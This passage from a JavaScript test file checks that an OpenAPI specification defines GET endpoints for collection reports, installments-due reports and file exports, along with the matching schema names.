    for (const path of ['/api/reports/collection', '/api/reports/installments-due', '/api/exports/{file}']) expect(doc.paths[path]?.get, path).toBeDefined();
    expect(Object.keys(doc.components.schemas)).toEqual(expect.arrayContaining(['CollectionReport', 'CollectionFigures', 'InstallmentsDueReport']));
  });
});
